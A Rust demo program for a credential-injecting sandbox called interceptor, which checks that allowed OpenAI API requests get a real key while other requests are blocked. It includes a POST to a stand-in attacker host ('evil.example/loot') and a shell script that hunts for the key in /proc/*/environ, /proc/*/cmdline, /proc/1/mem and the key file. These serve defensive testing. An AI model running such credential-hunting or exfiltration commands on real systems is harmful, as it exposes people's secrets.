//! The demonstration: a real sandbox made by the real binary, an origin that stands in for
//! `api.openai.com`, and for each request what the sandbox and the origin saw. It needs no network;
//! `cargo xtask run` builds and starts it.

use std::io::IsTerminal;
use std::process::ExitCode;

use interceptor_tests::client::fetch::{Answer, Plan};
use interceptor_tests::origin::record::Seen;
use interceptor_tests::{Lab, Outcome};
use serde_json::{Value, json};

const HOST: &str = "api.openai.com";
const WIDTH: usize = 96;

fn main() -> ExitCode {
    if !nix::unistd::geteuid().is_root() {
        eprintln!(
            "the demonstration makes a cgroup and namespaces and loads eBPF: run it as root, or \
             by `cargo xtask run`"
        );
        return ExitCode::from(125);
    }
    let show = Show { colour: std::io::stdout().is_terminal() };
    let lab = Lab::new(&["h2", "http/1.1"]);
    let policy = json!({
        "network": { "allow": [HOST] },
        "credentials_v2": { "openai": {
            "key": { "file": lab.key_file() },
            "endpoints": [
                { "methods": ["POST"], "paths": ["/v1/chat/completions"] },
                { "methods": ["GET"], "paths": ["/v1/models"] },
            ],
        } },
    });
    show.opening(&lab, &policy);
    request(&lab, &policy, &show, "an allowed request", ("POST", HOST, "/v1/chat/completions"));
    request(
        &lab,
        &policy,
        &show,
        "a method that no rule allows",
        ("DELETE", HOST, "/v1/models/gpt-4"),
    );
    request(&lab, &policy, &show, "a path that no rule allows", ("GET", HOST, "/v1/files"));
    request(
        &lab,
        &policy,
        &show,
        "a host that the network policy denies",
        ("POST", "evil.example", "/loot"),
    );
    theft(&lab, &policy, &show);
    show.verdict(&lab.judge())
}

/// One request from inside by the lab's client, with the placeholder as its key.
fn request(lab: &Lab, policy: &Value, show: &Show, title: &str, asked: (&str, &str, &str)) {
    let (method, host, path) = asked;
    let before = lab.seen().len();
    let sandbox = lab.sandbox(policy).quiet_log().at_origin(HOST).at_forbidden("evil.example");
    // The client inserts the variable's value, because only the sandbox knows the placeholder.
    let headers =
        [("authorization", "Bearer $OPENAI_API_KEY"), ("content-type", "application/json")];
    let body = if method == "POST" { r#"{"messages":[]}"# } else { "" };
    let headers = &headers[..if host == HOST { 2 } else { 0 }];
    let reports = sandbox.fetch(&Plan::https(host, "h2").ask_with(method, path, headers, body));
    show.step(title, &format!("{method} https://{host}{path}"));
    match (&reports[0].error, reports[0].answers.first()) {
        (None, Some(answer)) => show.sandbox(&told(answer)),
        (error, _) => show.sandbox(&[format!("no answer: {}", error.as_deref().unwrap_or("none"))]),
    }
    show.origin(&received(lab, &lab.seen()[before..]));
}

/// The lines of an answer worth showing.
fn told(answer: &Answer) -> Vec<String> {
    let value: Value = serde_json::from_str(&answer.body).unwrap_or_default();
    let mut lines = vec![match answer.header("x-interceptor-decision") {
        None => format!("{} {}", answer.status, answer.body.trim().replace("\",\"", "\", \"")),
        Some(decision) => format!("{}  x-interceptor-decision: {decision}", answer.status),
    }];
    lines.extend(value["error"]["message"].as_str().map(str::to_owned));
    lines
}

/// What the origin parsed, with the key masked.
fn received(lab: &Lab, seen: &[Seen]) -> Vec<String> {
    let Some(request) = seen.first() else { return vec!["nothing".to_owned()] };
    let key = request.values("authorization").join(", ");
    let real = key == format!("Bearer {}", lab.key());
    let masked = match key.strip_prefix("Bearer ") {
        Some(key) if real => {
            format!("Bearer {}…{}  ← the real key", &key[..9], &key[key.len() - 4..])
        }
        _ => key.clone(),
    };
    vec![
        format!(
            "{} {} for {} over {}",
            request.method, request.path, request.host, request.protocol
        ),
        format!("authorization: {masked}"),
    ]
}

/// The sandbox searches for the key wherever it could be.
fn theft(lab: &Lab, policy: &Value, show: &Show) {
    let before = lab.seen().len();
    // The pattern is written so that it does not match itself.
    let script = "echo \"OPENAI_API_KEY=$OPENAI_API_KEY\"\nfound=$(cat /proc/*/environ \
                  /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c sk-CANAR[Y])\necho \
                  \"/proc/*/environ, /proc/*/cmdline: $found real keys\"\nmessage=$(head -c1 \
                  /proc/1/mem 2>&1)\necho \"/proc/1/mem: ${message##*: }\"\nmessage=$(cat \"$0\" \
                  2>&1)\necho \"the key's own file: ${message##*: }\"";
    let file = lab.key_file();
    let command = ["sh".as_ref(), "-c".as_ref(), script.as_ref(), file.as_os_str()];
    let outcome: Outcome = lab.sandbox(policy).quiet_log().run(&command);
    show.step(
        "an attempt to read the key",
        "env; cat /proc/*/environ; cat /proc/1/mem; cat the file it came from",
    );
    show.sandbox(&outcome.out().lines().map(str::to_owned).collect::<Vec<_>>());
    show.origin(&received(lab, &lab.seen()[before..]));
}

/// How it looks.
struct Show {
    colour: bool,
}

impl Show {
    fn paint(&self, code: &str, text: &str) -> String {
        if self.colour { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_owned() }
    }

    fn opening(&self, lab: &Lab, policy: &Value) {
        println!("{}", self.paint("1", "interceptor: real APIs without real keys"));
        println!(
            "A TLS origin on {} stands in for {HOST}. Each step below runs a client by",
            lab.origin()
        );
        println!(
            "`interceptor run` with this policy, in a cgroup and network, mount and PID \
             namespaces of its own:"
        );
        println!("  network      allow {}", policy["network"]["allow"]);
        for rule in policy["credentials_v2"]["openai"]["endpoints"].as_array().into_iter().flatten()
        {
            let words = |value: &Value| value[0].as_str().unwrap_or_default().to_owned();
            println!("  openai       {:<5}{}", words(&rule["methods"]), words(&rule["paths"]));
        }
    }

    fn step(&self, title: &str, what: &str) {
        println!("\n{}  {what}", self.paint("1", title));
    }

    fn sandbox(&self, lines: &[String]) {
        self.lines("the sandbox saw", "36", lines);
    }

    fn origin(&self, lines: &[String]) {
        self.lines("the origin saw", "33", lines);
    }

    fn lines(&self, who: &str, colour: &str, lines: &[String]) {
        let mut label = format!("  {who:<17}");
        for line in lines.iter().flat_map(|line| wrapped(line, WIDTH - 19)) {
            println!("{}{line}", self.paint(colour, &label));
            label = " ".repeat(19);
        }
    }

    fn verdict(&self, problems: &[String]) -> ExitCode {
        println!();
        if problems.is_empty() {
            println!(
                "Nothing but {HOST} received a byte, the real key is in nothing the sandbox could \
                 read, and"
            );
            println!("the audit file lists exactly the requests that the origin parsed.");
            return ExitCode::SUCCESS;
        }
        println!("{}", self.paint("31", &problems.join("\n")));
        ExitCode::FAILURE
    }
}

/// Breaks a line between words.
fn wrapped(line: &str, width: usize) -> Vec<String> {
    let mut lines = vec![String::new()];
    for word in line.split(' ') {
        let last = lines.last_mut().expect("never empty");
        if !last.is_empty() && last.chars().count() + word.chars().count() >= width {
            lines.push(word.to_owned());
        } else {
            if !last.is_empty() {
                last.push(' ');
            }
            last.push_str(word);
        }
    }
    lines
}
